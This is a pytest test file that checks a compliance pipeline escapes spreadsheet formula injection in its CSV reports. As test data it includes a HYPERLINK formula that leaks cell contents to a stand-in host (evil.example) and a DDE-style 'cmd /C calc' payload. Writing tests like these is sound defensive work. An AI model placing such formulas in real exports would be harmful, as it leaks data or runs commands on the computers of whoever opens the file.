"""compliance.csv opens safely in a spreadsheet: a cell that would start a formula (=, +, -, @, tab or
carriage return first, per OWASP's CSV-injection guidance) is written with a leading single quote."""

from __future__ import annotations

import csv
import io

import pytest

from ox_bb_pipeline.warehouse.report import csv_text, spreadsheet_safe, write_reports

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("acme/api", "acme/api"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(value, written):
    assert spreadsheet_safe(value) == written


def test_compliance_csv_neutralises_formulas_in_every_cell(lake, small_catalog):
    api = lake.repository("api")
    lake.posture(api, "BB-003", "pass", "force pushes prevented")
    lake.config(
        "applications.yaml",
        """
        applications:
          - name: "@SUM(1+1)*cmd|' /C calc'!A0"
            repositories: [{workspace: acme, repository: api}]
    """,
    )
    lake.build(settings=lake.small_settings())

    rows = list(csv.DictReader(io.StringIO(write_reports(lake.home)["csv"].read_text())))

    assert rows and {r["application"] for r in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    [row] = [r for r in rows if r["control_id"] == "CIS-SSC-1.1.16"]
    assert (row["status"], row["framework_score"]) == ("pass", "100.0")
    assert not any(cell.startswith(FORMULA) for r in rows for cell in r.values())


def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
    """With "\n" line ends the csv module writes a lone CR unquoted; a reader would end the row there."""
    text = csv_text(["application", "evidence"], [["api", "branch main\r=1+1"], ["web", "plain"]])

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["application", "evidence"],
        ["api", "branch main\r=1+1"],
        ["web", "plain"],
    ]
    assert text.endswith('"api","branch main\r=1+1"\nweb,plain\n')
